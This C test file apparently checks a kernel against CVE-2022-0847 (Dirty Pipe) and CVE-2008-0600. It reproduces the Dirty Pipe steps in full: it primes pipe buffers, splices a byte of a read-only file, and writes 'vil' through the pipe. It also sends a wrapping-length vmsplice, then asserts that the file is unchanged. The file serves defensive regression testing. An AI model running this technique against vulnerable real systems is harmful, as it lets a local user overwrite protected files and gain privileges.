/* CVE: CVE-2022-0847, CVE-2008-0600
   Wins: a file that may only be read is written to, through a pipe that holds a page of it
   Verdict: ok
   Output: ok

   A pipe whose every buffer was used gets a byte of an input by every call that moves without copying; what is then written to the pipe must not be in the file.
   Memory that is given to a pipe with lengths that wrap must be refused. */

#include "../attack.h"

enum { SPLICE = 313, TEE = 315, VMSPLICE = 316 };

static int input;

static void looks(const char *way)
{
	u8 now[4];
	u8 *map = (u8 *)sys(MMAP2, 0, PAGE, 1, 1, input, 0);

	sys(PREAD64, input, now, 4, 0, 0);
	must(now[0] == 0x7f && now[1] == 'E' && now[2] == 'L' && now[3] == 'F', way);
	if (!FAILED(map)) {
		must(map[0] == 0x7f && map[1] == 'E' && map[2] == 'L' && map[3] == 'F', way);
		sys(MUNMAP, map, PAGE);
	}
}

/* A pipe of which every buffer was full once. */
static void used(int *ends)
{
	static u8 page[PAGE];
	int i;

	sys(PIPE2, ends, 04000);
	for (i = 0; i < 64 && sys(WRITE, ends[1], page, PAGE) > 0; i++)
		;
	while (sys(READ, ends[0], page, PAGE) > 0)
		;
}

int attack(char **arguments, char **environment)
{
	struct {
		u32 base, length;
	} vector[2] = { { 0, 0x80000000 }, { 0xfffff000, 0xffffffff } };
	u64 offset = 0;
	int ends[2], others[2];
	u8 *map;

	input = sys(OPEN, arguments[0], 0, 0);
	must(!FAILED(input), "(nothing: the attack could not begin)");
	used(ends);
	sys(SPLICE, input, &offset, ends[1], 0, 1, 0);
	sys(WRITE, ends[1], "vil", 3);
	looks("after splice");
	used(ends);
	sys(LSEEK, input, 0, 0);
	sys(SENDFILE, ends[1], input, 0, 1);
	sys(WRITE, ends[1], "vil", 3);
	looks("after sendfile");
	used(ends);
	used(others);
	offset = 0;
	sys(SPLICE, input, &offset, ends[1], 0, 1, 0);
	sys(TEE, ends[0], others[1], 1, 0);
	sys(WRITE, others[1], "vil", 3);
	looks("after tee");
	used(ends);
	map = (u8 *)sys(MMAP2, 0, PAGE, 1, 1, input, 0);
	vector[0].base = (u32)map;
	vector[0].length = 1;
	sys(VMSPLICE, ends[1], vector, 1, 8);
	sys(WRITE, ends[1], "vil", 3);
	looks("after vmsplice");
	vector[0].base = 0;
	vector[0].length = 0x80000000;
	used(ends);
	must(FAILED(sys(VMSPLICE, ends[1], vector, 2, 0)), "memory that is not the program's is in a pipe");
	return 0;
}
